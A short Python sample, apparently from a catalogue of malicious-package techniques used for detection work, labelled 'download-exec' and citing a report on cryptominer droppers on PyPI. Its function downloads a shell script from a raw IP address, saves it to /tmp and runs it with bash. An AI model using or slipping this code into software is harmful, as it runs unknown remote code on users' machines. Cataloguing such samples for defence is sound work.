# technique: shell script downloaded to a file then run with bash
# class: download-exec
# source: JFrog, Linux cryptominer droppers on PyPI
# declares: network, subprocess, fs-write
import subprocess
import urllib.request


def install_agent():
    data = urllib.request.urlopen("http://193.233.20.2/agent.sh", timeout=10).read()
    open("/tmp/agent.sh", "wb").write(data)
    subprocess.run(["bash", "/tmp/agent.sh"], check=False)
